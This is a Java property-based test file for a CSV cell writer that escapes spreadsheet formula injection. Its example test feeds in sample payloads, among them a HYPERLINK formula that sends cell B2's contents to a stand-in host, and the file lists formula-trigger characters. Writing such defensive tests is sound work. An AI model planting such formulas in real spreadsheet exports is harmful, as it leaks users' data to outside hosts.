package fr.terrain.ingest;

import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import java.util.List;
import net.jqwik.api.Example;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;

/** A cell written for a spreadsheet reads back as the one text written, and never as a formula. */
class CsvCellProperties {
    private static final String FORMULA_STARTS = "=+-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20";

    @Property
    void aCellReadsBackAsItsTextAndNeverStartsAFormula(@ForAll String value) {
        List<String> fields = read(CsvCell.text(value, ';') + ";fin");
        assertThat(fields).hasSize(2);
        String cell = fields.get(0);
        assertThat(cell).isIn(value, "'" + value);
        assertThat(cell.isEmpty() || FORMULA_STARTS.indexOf(cell.charAt(0)) < 0).as(cell).isTrue();
    }

    @Example
    void formulasAreWrittenAsText() {
        assertThat(CsvCell.text("=HYPERLINK(\"https://exemple.org/?\"&B2;\"clic\")", ';'))
                .isEqualTo("\"'=HYPERLINK(\"\"https://exemple.org/?\"\"&B2;\"\"clic\"\")\"");
        assertThat(CsvCell.text("@SUM(1+1)", ';')).isEqualTo("'@SUM(1+1)");
        assertThat(CsvCell.text("-2+3", ';')).isEqualTo("'-2+3");
        assertThat(CsvCell.text("Paul DURAND", ';')).isEqualTo("Paul DURAND");
        assertThat(CsvCell.text(null, ';')).isEmpty();
    }

    private static List<String> read(String line) {
        try (CsvReader<CsvRecord> r = CsvReader.builder().fieldSeparator(';').skipEmptyLines(false).ofCsvRecord(line)) {
            return r.stream().findFirst().orElseThrow().getFields();
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }
}
